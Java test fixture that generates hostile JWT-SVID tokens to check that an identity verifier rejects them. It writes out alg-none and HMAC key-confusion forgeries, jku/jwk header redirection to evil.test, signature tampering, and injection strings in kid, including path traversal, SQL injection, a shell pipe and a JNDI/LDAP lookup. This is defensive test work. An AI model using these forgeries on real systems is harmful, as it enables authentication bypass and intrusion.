package io.tombolo.mesh.identity;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.ECPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/// Tokens that no verifier of JWT-SVIDs may accept, each with one thing wrong. What is not about
/// the signature is signed with the right key, so that nothing else keeps it out.
public final class HostileJwts {
  /// @param keys EC P-256, of the issuer that the verifier trusts for the subject
  /// @param others of another issuer
  /// @param othersId an id under which the verifier knows the other issuer's key, but not for the
  ///   trust domain of the subject
  public record Issuer(
      KeyPair keys,
      String keyId,
      KeyPair others,
      String othersId,
      String subject,
      String audience,
      Instant now) {
    String header() {
      return "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"JWT\"}".formatted(keyId);
    }

    String claims() {
      return object(claimsWithout(""));
    }

    private Map<String, String> claimsWithout(String name) {
      var claims = new LinkedHashMap<String, String>();
      claims.put("aud", "[\"%s\"]".formatted(audience));
      claims.put("exp", Long.toString(now.getEpochSecond() + 300));
      claims.put("iat", Long.toString(now.getEpochSecond()));
      claims.put("sub", "\"%s\"".formatted(subject));
      claims.keySet().remove(name);
      return claims;
    }

    /// The claims with one of them being this JSON.
    String claimsWith(String name, String json) {
      var claims = claimsWithout(name);
      claims.put(name, json);
      return object(claims);
    }

    String good() {
      return signed(header(), claims(), keys);
    }

    String trustDomain() {
      return SpiffeId.parse(subject).trustDomain().name();
    }
  }

  /// @param flaw what is wrong with it
  public record Token(String flaw, String text) {
    @Override
    public String toString() {
      return flaw;
    }
  }

  private final Issuer issuer;
  private final List<Token> all = new ArrayList<>();

  private HostileJwts(Issuer issuer) {
    this.issuer = issuer;
  }

  /// A token with nothing wrong.
  public static String good(Issuer issuer) {
    return issuer.good();
  }

  /// A token with these parts, signed with ES256.
  public static String signed(String header, String claims, KeyPair keys) {
    return signed(
        header.getBytes(StandardCharsets.UTF_8), claims.getBytes(StandardCharsets.UTF_8), keys);
  }

  public static List<Token> all(Issuer issuer) {
    var hostile = new HostileJwts(issuer);
    hostile.algorithms();
    hostile.keyIds();
    hostile.headers();
    hostile.types();
    hostile.subjects();
    hostile.audiences();
    hostile.times();
    hostile.signatures();
    hostile.parts();
    hostile.json();
    hostile.otherForms();
    return List.copyOf(hostile.all);
  }

  public static KeyPair newKeys() {
    try {
      var generator = KeyPairGenerator.getInstance("EC");
      generator.initialize(new ECGenParameterSpec("secp256r1"));
      return generator.generateKeyPair();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private void add(String flaw, String text) {
    all.add(new Token(flaw, text));
  }

  private void header(String flaw, String header) {
    add(flaw, signed(header, issuer.claims(), issuer.keys()));
  }

  private void claims(String flaw, String claims) {
    add(flaw, signed(issuer.header(), claims, issuer.keys()));
  }

  private void claim(String name, String... values) {
    for (var json : values) {
      claims(name + " " + json, issuer.claimsWith(name, json));
    }
  }

  private String headerWith(String name, String json) {
    var header = new LinkedHashMap<String, String>();
    header.put("alg", "\"ES256\"");
    header.put("kid", "\"" + issuer.keyId() + "\"");
    header.put("typ", "\"JWT\"");
    header.put(name, json);
    return object(header);
  }

  private void algorithms() {
    for (var name : List.of("none", "None", "NONE", "nOnE", "")) {
      var header = headerWith("alg", "\"" + name + "\"");
      add("alg " + name + ", no signature", unsigned(header, issuer.claims()) + ".");
      add("alg " + name + ", signed", signed(header, issuer.claims(), issuer.keys()));
    }
    header("no alg", "{\"kid\":\"%s\",\"typ\":\"JWT\"}".formatted(issuer.keyId()));
    for (var json :
        List.of(
            "null",
            "256",
            "[\"ES256\"]",
            "{}",
            "true",
            "\"es256\"",
            "\"ES256 \"",
            "\"ES256K\"",
            "\"EdDSA\"",
            "\"Ed25519\"",
            "\"ES384\"",
            "\"ES512\"",
            "\"RS256\"",
            "\"RS384\"",
            "\"RS512\"",
            "\"PS256\"",
            "\"PS384\"",
            "\"PS512\"",
            "\"RS1\"",
            "\"dir\"",
            "\"A128KW\"",
            "\"RSA-OAEP\"",
            "\"ECDH-ES\"",
            "\"PBES2-HS256+A128KW\"",
            "\"ES256\\u0000\"")) {
      header("alg " + json, headerWith("alg", json));
    }
    var publicKey = issuer.keys().getPublic();
    var pem =
        "-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----\n"
            .formatted(Base64.getMimeEncoder().encodeToString(publicKey.getEncoded()));
    var secrets =
        Map.of(
            "the public key in DER", publicKey.getEncoded(),
            "the public key in PEM", pem.getBytes(StandardCharsets.US_ASCII),
            "the point", point((ECPublicKey) publicKey),
            "the key id", issuer.keyId().getBytes(StandardCharsets.US_ASCII),
            "a zero", new byte[1]);
    for (int bits : new int[] {256, 384, 512}) {
      secrets.forEach((name, secret) ->
          add(
              "HS%d keyed with %s".formatted(bits, name),
              hmac(headerWith("alg", "\"HS" + bits + "\""), bits, secret)));
    }
  }

  private void keyIds() {
    for (var json :
        List.of(
            "\"\"",
            "\"unknown\"",
            "\"../../../../../../dev/null\"",
            "\"/etc/passwd\"",
            "\"file:///dev/null\"",
            "\"https://evil.test/jwks.json\"",
            "\"' OR '1'='1\"",
            "\"| cat /dev/null\"",
            "\"${jndi:ldap://evil.test/a}\"",
            "\"\\u0000\"",
            "\"*\"",
            "\"%s \"".formatted(issuer.keyId()),
            "\"%s\\u0000\"".formatted(issuer.keyId()),
            "\"./%s\"".formatted(issuer.keyId()),
            "\"%s\"".formatted("k".repeat(5000)),
            "\"%s\"".formatted(issuer.othersId()),
            "null",
            "0",
            "true",
            "[\"%s\"]".formatted(issuer.keyId()),
            "{\"kid\":\"%s\"}".formatted(issuer.keyId()))) {
      header("kid " + json, headerWith("kid", json));
    }
    add(
        "no kid, the other issuer's key",
        signed("{\"alg\":\"ES256\"}", issuer.claims(), issuer.others()));
    for (var id : List.of(issuer.keyId(), issuer.othersId(), "../" + issuer.othersId())) {
      add(
          "kid %s, the other issuer's key".formatted(id),
          signed(headerWith("kid", "\"" + id + "\""), issuer.claims(), issuer.others()));
    }
  }

  private void headers() {
    var evil = jwk((ECPublicKey) issuer.others().getPublic());
    var more = new LinkedHashMap<String, String>();
    more.put("jku", "\"https://evil.test/jwks.json\"");
    more.put("x5u", "\"https://evil.test/chain.pem\"");
    more.put("jwk", evil);
    more.put("x5c", "[\"MIIB\"]");
    more.put("x5t", "\"AAAA\"");
    more.put("x5t#S256", "\"AAAA\"");
    more.put("crit", "[\"exp\"]");
    more.put("b64", "false");
    more.put("zip", "\"DEF\"");
    more.put("cty", "\"JWT\"");
    more.put("enc", "\"A128GCM\"");
    more.put("epk", evil);
    more.put("p2c", "2147483647");
    more.put("iss", "\"https://evil.test\"");
    more.put("nonce", "\"n\"");
    more.put("ALG", "\"none\"");
    more.put("", "\"\"");
    more.forEach((name, json) -> {
      var header = headerWith(name, json);
      header("header " + name, header);
      add(
          "header %s, the other issuer's key".formatted(name),
          signed(header, issuer.claims(), issuer.others()));
    });
    header("crit and b64", headerWith("b64", "false,\"crit\":[\"b64\"]"));
  }

  private void types() {
    for (var json :
        List.of(
            "\"jwt\"",
            "\"Jwt\"",
            "\"\"",
            "\"JWT \"",
            "\"at+jwt\"",
            "\"JWE\"",
            "\"JOSE+JSON\"",
            "\"application/jwt\"",
            "\"dpop+jwt\"",
            "null",
            "1",
            "[\"JWT\"]",
            "{}")) {
      header("typ " + json, headerWith("typ", json));
    }
  }

  private void subjects() {
    claims("no sub", object(issuer.claimsWithout("sub")));
    var domain = issuer.trustDomain();
    for (var subject :
        List.of(
            "",
            " ",
            "cart",
            "/ns/shop/sa/cart",
            "spiffe:",
            "spiffe://",
            "spiffe:///ns/shop",
            "spiffe://" + domain,
            "spiffe://" + domain + "/",
            "SPIFFE://" + domain + "/a",
            "spiffe://" + domain.toUpperCase(Locale.ROOT) + "/a",
            "https://" + domain + "/a",
            "spiffe://" + domain + "/a/",
            "spiffe://" + domain + "//a",
            "spiffe://" + domain + "/a/../b",
            "spiffe://" + domain + "/./a",
            "spiffe://" + domain + "/..",
            "spiffe://" + domain + ":443/a",
            "spiffe://user@" + domain + "/a",
            "spiffe://" + domain + "/a?b=c",
            "spiffe://" + domain + "/a#b",
            "spiffe://" + domain + "/%61",
            "spiffe://" + domain + "/a b",
            "spiffe://" + domain + "/ä",
            "spiffe://" + domain + "./a",
            "spiffe://unknown.test/a",
            "spiffe://" + domain + ".evil.test/a",
            "spiffe://evil.test/" + domain,
            issuer.subject() + "\\u0000",
            issuer.subject() + "\\n",
            " " + issuer.subject(),
            "spiffe://" + domain + "/" + "a".repeat(2100))) {
      claim("sub", "\"" + subject + "\"");
    }
    claim("sub", "null", "1", "true", "{}", "[]", "[\"%s\"]".formatted(issuer.subject()));
  }

  private void audiences() {
    claims("no aud", object(issuer.claimsWithout("aud")));
    var right = issuer.audience();
    claim(
        "aud",
        "null",
        "1",
        "true",
        "{}",
        "[]",
        "\"\"",
        "[\"\"]",
        "\"other\"",
        "[\"other\"]",
        "[\"other\",\"another\"]",
        "[[\"%s\"]]".formatted(right),
        "{\"aud\":\"%s\"}".formatted(right),
        "{\"%s\":true}".formatted(right),
        "[\"%s\",1]".formatted(right),
        "[null,\"%s\"]".formatted(right),
        "\"%s \"".formatted(right),
        "\"%s\"".formatted(right.toUpperCase(Locale.ROOT)),
        "\"%s/\"".formatted(right),
        "\"%s,other\"".formatted(right),
        "\"%s\\u0000\"".formatted(right),
        "\"*\"",
        "\"" + right.substring(1) + "\"",
        "\"" + right.substring(0, right.length() - 1) + "\"");
  }

  private void times() {
    claims("no exp", object(issuer.claimsWithout("exp")));
    long now = issuer.now().getEpochSecond();
    long later = now + 3600;
    claim(
        "exp",
        "null",
        "true",
        "{}",
        "[]",
        "\"\"",
        "\"%d\"".formatted(later),
        "[%d]".formatted(later),
        "0",
        "-1",
        "-%d".formatted(later),
        Long.toString(now),
        Long.toString(now - 1),
        Long.toString(now - 60),
        "%d.9".formatted(now - 1),
        "1e3",
        "1e400",
        "-1e400",
        "NaN",
        "Infinity",
        "0x7fffffff",
        "0%d".formatted(later),
        "+%d".formatted(later),
        "%d.".formatted(later),
        "\"2999-01-01T00:00:00Z\"");
    claim(
        "nbf",
        "null",
        "true",
        "{}",
        "[]",
        "\"\"",
        "\"0\"",
        Long.toString(later),
        Long.toString(now + 600),
        "%d000".formatted(now),
        "1e300",
        "1e400",
        "NaN");
    claim("iat", "null", "true", "{}", "[]", "\"%d\"".formatted(now), "1e400");
  }

  private void signatures() {
    var good = issuer.good();
    int dot = good.lastIndexOf('.');
    var start = good.substring(0, dot + 1);
    byte[] signature = Base64.getUrlDecoder().decode(good.substring(dot + 1));
    add("no signature", start);
    add("no signature and no dot", good.substring(0, dot));
    add("the signature of another token", start + part(another(), 2));
    add("the signature twice", start + base64(joined(signature, signature)));
    var order = ((ECPublicKey) issuer.keys().getPublic()).getParams().getOrder();
    byte[] n = unsigned32(order);
    byte[] zero = new byte[32];
    byte[] one = unsigned32(BigInteger.ONE);
    byte[] r = Arrays.copyOf(signature, 32);
    byte[] s = Arrays.copyOfRange(signature, 32, 64);
    add("r and s zero", start + base64(joined(zero, zero)));
    add("r zero", start + base64(joined(zero, s)));
    add("s zero", start + base64(joined(r, zero)));
    add("r and s the order", start + base64(joined(n, n)));
    add("r the order", start + base64(joined(n, s)));
    add("s the order", start + base64(joined(r, n)));
    add("r and s one", start + base64(joined(one, one)));
    add("r and s in turn", start + base64(joined(s, r)));
    add("in DER", start + base64(inDer(r, s)));
    for (int length : new int[] {1, 31, 32, 33, 63}) {
      add("cut to %d bytes".formatted(length), start + base64(Arrays.copyOf(signature, length)));
    }
    for (int length : new int[] {65, 72, 96, 132, 256}) {
      add("filled to %d bytes".formatted(length), start + base64(Arrays.copyOf(signature, length)));
    }
    for (int at = 0; at < signature.length; at += 5) {
      byte[] changed = signature.clone();
      changed[at] ^= 1;
      add("byte %d of the signature changed".formatted(at), start + base64(changed));
    }
    var changed = issuer.claimsWith("admin", "true");
    add(
        "claims changed",
        part(good, 0)
            + "."
            + base64(changed.getBytes(StandardCharsets.UTF_8))
            + "."
            + part(good, 2));
    add(
        "header changed",
        base64("{\"alg\":\"ES256\"}".getBytes(StandardCharsets.UTF_8))
            + good.substring(good.indexOf('.')));
    add("header and claims in turn", part(good, 1) + "." + part(good, 0) + "." + part(good, 2));
  }

  private String another() {
    return signed(issuer.header(), issuer.claimsWith("other", "1"), issuer.keys());
  }

  private void parts() {
    var good = issuer.good();
    for (var text : List.of(".", "..", "...", "....", " ", "null", "{}", "eyJ", "eyJ.eyJ.eyJ")) {
      add("just " + text, text);
    }
    for (int length = 1; length < good.length(); length += 24) {
      add("cut to %d characters".formatted(length), good.substring(0, length));
    }
    add("four parts", good + ".AAAA");
    add("a dot more at the end", good + ".");
    add("a dot more at the start", "." + good);
    for (var around : List.of(" ", "\n", "\t", "\r\n", "\u0000", "\"", "\uFEFF", "\u00A0", "=")) {
      var shown = Integer.toHexString(around.charAt(0));
      add("after " + shown, around + good);
      add("before " + shown, good + around);
      add("with %s within".formatted(shown), good.replaceFirst("\\.", around + "."));
      add("with %s in the claims".formatted(shown), inClaims(good, around));
    }
    add("with Bearer", "Bearer " + good);
    add("escaped", good.replace(".", "%2E"));
    add("with other dots", good.replace('.', '\u3002'));
    add("in letters of full width", good.replace('e', '\uFF45'));
    for (int part = 0; part < 3; part++) {
      add("part %d padded".formatted(part), withPart(good, part, part(good, part) + "=="));
      add("part %d empty".formatted(part), withPart(good, part, ""));
      int number = part;
      sameBytes(part(good, part))
          .ifPresent(other ->
              add("part %d in other letters".formatted(number), withPart(good, number, other)));
    }
    signedInOtherLetters();
    var huge = issuer.claimsWith("more", "\"" + "x".repeat(20_000) + "\"");
    claims("20 kB of claims", huge);
    claims("1 MB of claims", issuer.claimsWith("more", "\"" + "x".repeat(1_000_000) + "\""));
    header("20 kB of kid", headerWith("kid", "\"" + "x".repeat(20_000) + "\""));
    add("a million dots", ".".repeat(1_000_000));
    add("a million letters", "A".repeat(1_000_000));
  }

  /// What a lenient decoder reads and what the signature is over are not the same.
  private void signedInOtherLetters() {
    var header = base64(issuer.header().getBytes(StandardCharsets.UTF_8));
    byte[] claims = issuer.claims().getBytes(StandardCharsets.UTF_8);
    for (byte[] odd : List.of(claims, joined(claims, " ".getBytes(StandardCharsets.US_ASCII)))) {
      var base64 = base64(odd);
      for (var form : List.of(padded(base64), base64 + "*", base64 + " ", "\n" + base64)) {
        if (!form.equals(base64)) {
          var text = header + "." + form;
          add("signed as " + form.substring(form.length() - 3), text + "." + es256(text));
        }
      }
      sameBytes(base64)
          .ifPresent(other -> {
            var text = header + "." + other;
            add("signed in other letters", text + "." + es256(text));
          });
    }
    var text = header + "." + Base64.getEncoder().encodeToString(standardLetters());
    add("signed in letters of plain base64", text + "." + es256(text));
  }

  private byte[] standardLetters() {
    var json = issuer.claimsWith("more", "\"????????>>>>>>>>\"");
    return json.getBytes(StandardCharsets.UTF_8);
  }

  private String es256(String text) {
    return base64(signature(text, issuer.keys()));
  }

  private void json() {
    long later = issuer.now().getEpochSecond() + 3600;
    var sub = "\"sub\":\"%s\"".formatted(issuer.subject());
    var aud = "\"aud\":\"%s\"".formatted(issuer.audience());
    var exp = "\"exp\":%d".formatted(later);
    var whole = "{%s,%s,%s}".formatted(sub, aud, exp);
    for (var twice :
        List.of(
            sub,
            aud,
            exp,
            "\"sub\":\"spiffe://evil.test/a\"",
            "\"aud\":\"other\"",
            "\"exp\":0",
            "\"s\\u0075b\":\"spiffe://%s/admin\"".formatted(issuer.trustDomain()),
            "\"\\u0061ud\":[\"other\"]",
            "\"e\\u0078p\":9999999999")) {
      claims("first " + twice, "{%s,%s,%s,%s}".formatted(twice, sub, aud, exp));
      claims("then " + twice, "{%s,%s,%s,%s}".formatted(sub, aud, exp, twice));
    }
    claims("a name twice, within", issuer.claimsWith("more", "{\"a\":1,\"a\":2}"));
    claims("a name twice, in a list", issuer.claimsWith("more", "[{\"a\":1,\"a\":1}]"));
    for (var twice : List.of("\"alg\":\"none\"", "\"alg\":\"ES256\"", "\"kid\":\"other\"")) {
      var header = issuer.header();
      header("header, first " + twice, "{" + twice + "," + header.substring(1));
      header("header, then " + twice, header.substring(0, header.length() - 1) + "," + twice + "}");
    }
    for (var not :
        List.of(
            "",
            " ",
            "null",
            "true",
            "1",
            "\"text\"",
            "[]",
            "[" + whole + "]",
            "{",
            "}",
            "{}{}",
            whole + whole,
            whole + ",",
            whole + "x",
            whole + "\u0000",
            whole + "}",
            "\uFEFF" + whole,
            "\u0000" + whole,
            "\u00A0" + whole,
            ")]}'\n" + whole,
            whole.replace('"', '\''),
            whole.replace("\"sub\"", "sub"),
            whole.replace("}", ",}"),
            whole.replace("{", "{,"),
            whole.replace(":", "="),
            whole.replace(",", ";"),
            whole.replace(":", "=>"),
            "/* a */" + whole,
            whole + "// a",
            "# a\n" + whole,
            whole.replace("}", ",\"a\":TRUE}"),
            whole.replace("}", ",\"a\":Null}"),
            whole.replace("}", ",\"a\":NaN}"),
            whole.replace("}", ",\"a\":-Infinity}"),
            whole.replace("}", ",\"a\":01}"),
            whole.replace("}", ",\"a\":.5}"),
            whole.replace("}", ",\"a\":5.}"),
            whole.replace("}", ",\"a\":0x1}"),
            whole.replace("}", ",\"a\":undefined}"),
            whole.replace("}", ",\"a\":}"),
            whole.replace("}", ",\"a\"}"),
            whole.replace("}", ",a:1}"),
            whole.replace("}", ",\"a\":[1,]}"),
            whole.replace("}", ",\"a\":[,1]}"),
            whole.replace("}", ",\"a\":\"\\x41\"}"),
            whole.replace("}", ",\"a\":\"\\'\"}"),
            whole.replace("}", ",\"a\":\"\\u12\"}"),
            whole.replace("}", ",\"a\":\"\\uD800\"}"),
            whole.replace("}", ",\"a\":\"\\uDC00x\"}"),
            whole.replace("}", ",\"\\uD800\":1}"),
            whole.replace("}", ",\"a\":\"\u0001\"}"),
            whole.replace("}", ",\"a\":\"\t\"}"),
            whole.replace("}", ",\"a\":\"\n\"}"),
            whole.replace("}", ",\"a\":\"\u0000\"}"),
            whole.replace("}", ",\"\u001f\":1}"),
            whole.replace("}", ",\"a\":1e999}"))) {
      claims("claims " + printable(not), not);
    }
    claims("deep", issuer.claimsWith("more", "[".repeat(1000) + "]".repeat(1000)));
    claims("deeper", issuer.claimsWith("more", "{\"a\":".repeat(1200) + "1" + "}".repeat(1200)));
    claims("deep and not closed", issuer.claimsWith("more", "[".repeat(5000)));
    for (var not : List.of("", "null", "[]", "\"ES256\"", "{", "{}", "{'alg':'ES256'}")) {
      header("header " + not, not);
    }
    header("header with a comment", "/**/" + issuer.header());
    header("header and more", issuer.header() + "{}");
    var utf8 = whole.getBytes(StandardCharsets.UTF_8);
    bytes("UTF-16", whole.getBytes(StandardCharsets.UTF_16));
    bytes("UTF-16LE", whole.getBytes(StandardCharsets.UTF_16LE));
    bytes("not UTF-8", within(utf8, (byte) 0xff));
    bytes("half of a character", within(utf8, (byte) 0xc3));
    bytes("too long for its character", within(utf8, (byte) 0xc0, (byte) 0xaf));
    bytes("a surrogate in UTF-8", within(utf8, (byte) 0xed, (byte) 0xa0, (byte) 0x80));
    bytes("beyond Unicode", within(utf8, (byte) 0xf5, (byte) 0x80, (byte) 0x80, (byte) 0x80));
  }

  private void bytes(String flaw, byte[] claims) {
    var header = issuer.header().getBytes(StandardCharsets.UTF_8);
    add(flaw, signed(header, claims, issuer.keys()));
  }

  /// The JSON with a claim that has these bytes between its quotes.
  private static byte[] within(byte[] json, byte... bytes) {
    byte[] start = Arrays.copyOf(json, json.length - 1);
    byte[] before = joined(start, ",\"a\":\"".getBytes(StandardCharsets.US_ASCII));
    return joined(joined(before, bytes), "\"}".getBytes(StandardCharsets.US_ASCII));
  }

  private void otherForms() {
    var good = issuer.good();
    var flat =
        "\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\""
            .formatted(part(good, 1), part(good, 0), part(good, 2));
    add("JWS JSON, flattened", "{" + flat + "}");
    add("JWS JSON, with an unprotected header", "{" + flat + ",\"header\":{\"kid\":\"x\"}}");
    add(
        "JWS JSON, general",
        "{\"payload\":\"%s\",\"signatures\":[{\"protected\":\"%s\",\"signature\":\"%s\"}]}"
            .formatted(part(good, 1), part(good, 0), part(good, 2)));
    add("JWS JSON in base64", base64(("{" + flat + "}").getBytes(StandardCharsets.UTF_8)));
    add("detached", part(good, 0) + ".." + part(good, 2));
    var jwe = base64("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}".getBytes(StandardCharsets.UTF_8));
    add("JWE", jwe + "..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA");
    add("JWE with a key", jwe + ".AAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA");
    add("JWE of two dots", jwe + ".AAAA.AAAA");
    add(
        "nested",
        signed(
            "{\"alg\":\"ES256\",\"kid\":\"%s\",\"cty\":\"JWT\"}".formatted(issuer.keyId()),
            good,
            issuer.keys()));
    add("nested, not said", signed(issuer.header(), good, issuer.keys()));
    add("nested in quotes", signed(issuer.header(), "\"" + good + "\"", issuer.keys()));
    add("a token in a claim", signed(issuer.header(), "{\"jwt\":\"" + good + "\"}", issuer.keys()));
    var none = "{\"alg\":\"none\"}";
    add("unsecured", unsigned(none, issuer.claims()) + ".");
    add(
        "unsecured, with typ",
        unsigned("{\"typ\":\"JWT\",\"alg\":\"none\"}", issuer.claims()) + ".");
    add("unsecured, without the last dot", unsigned(none, issuer.claims()));
    add("unsecured around a good one", unsigned(none, good) + ".");
    add("an SD-JWT", good + "~");
    add("a PASETO", "v4.public." + part(good, 1));
  }

  private static String printable(String text) {
    return text.chars()
        .limit(200)
        .mapToObj(c -> c >= ' ' && c < 127 ? Character.toString(c) : "<%02x>".formatted(c))
        .collect(Collectors.joining());
  }

  private static String object(Map<String, String> fields) {
    return fields.entrySet().stream()
        .map(field -> "\"%s\":%s".formatted(field.getKey(), field.getValue()))
        .collect(Collectors.joining(",", "{", "}"));
  }

  private static String unsigned(String header, String claims) {
    return base64(header.getBytes(StandardCharsets.UTF_8))
        + "."
        + base64(claims.getBytes(StandardCharsets.UTF_8));
  }

  private static String signed(byte[] header, byte[] claims, KeyPair keys) {
    var text = base64(header) + "." + base64(claims);
    return text + "." + base64(signature(text, keys));
  }

  private static byte[] signature(String text, KeyPair keys) {
    try {
      var signature = Signature.getInstance("SHA256withECDSAinP1363Format");
      signature.initSign(keys.getPrivate());
      signature.update(text.getBytes(StandardCharsets.UTF_8));
      return signature.sign();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private String hmac(String header, int bits, byte[] secret) {
    var text = unsigned(header, issuer.claims());
    try {
      var mac = Mac.getInstance("HmacSHA" + bits);
      mac.init(new SecretKeySpec(secret, "HmacSHA" + bits));
      return text + "." + base64(mac.doFinal(text.getBytes(StandardCharsets.US_ASCII)));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String jwk(ECPublicKey key) {
    return "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"%s\",\"y\":\"%s\"}"
        .formatted(
            base64(unsigned32(key.getW().getAffineX())),
            base64(unsigned32(key.getW().getAffineY())));
  }

  private static byte[] point(ECPublicKey key) {
    return joined(
        new byte[] {4},
        joined(unsigned32(key.getW().getAffineX()), unsigned32(key.getW().getAffineY())));
  }

  private static byte[] unsigned32(BigInteger number) {
    byte[] bytes = number.toByteArray();
    byte[] fixed = new byte[32];
    int from = Math.max(0, bytes.length - 32);
    System.arraycopy(bytes, from, fixed, 32 - (bytes.length - from), bytes.length - from);
    return fixed;
  }

  private static byte[] inDer(byte[] r, byte[] s) {
    byte[] first = new BigInteger(1, r).toByteArray();
    byte[] second = new BigInteger(1, s).toByteArray();
    var der = new ByteArrayOutputStream();
    der.write(0x30);
    der.write(4 + first.length + second.length);
    der.write(2);
    der.write(first.length);
    der.writeBytes(first);
    der.write(2);
    der.write(second.length);
    der.writeBytes(second);
    return der.toByteArray();
  }

  private static byte[] joined(byte[] one, byte[] other) {
    byte[] all = Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, all, one.length, other.length);
    return all;
  }

  private static String base64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  private static String padded(String base64) {
    return base64 + "=".repeat((4 - base64.length() % 4) % 4);
  }

  /// Other letters for the same bytes, if the last letter has bits to spare.
  private static Optional<String> sameBytes(String base64) {
    int last = base64.length() - 1;
    for (char c = '-'; c <= 'z'; c++) {
      var other = base64.substring(0, last) + c;
      if (c != base64.charAt(last) && decodesTo(other, Base64.getUrlDecoder().decode(base64))) {
        return Optional.of(other);
      }
    }
    return Optional.empty();
  }

  private static boolean decodesTo(String base64, byte[] bytes) {
    try {
      return Arrays.equals(Base64.getUrlDecoder().decode(base64), bytes);
    } catch (IllegalArgumentException notBase64) {
      return false;
    }
  }

  private static String part(String token, int part) {
    return token.split("\\.", -1)[part];
  }

  private static String withPart(String token, int part, String text) {
    var parts = token.split("\\.", -1);
    parts[part] = text;
    return String.join(".", parts);
  }

  private static String inClaims(String token, String text) {
    var claims = part(token, 1);
    return withPart(token, 1, claims.substring(0, 8) + text + claims.substring(8));
  }
}
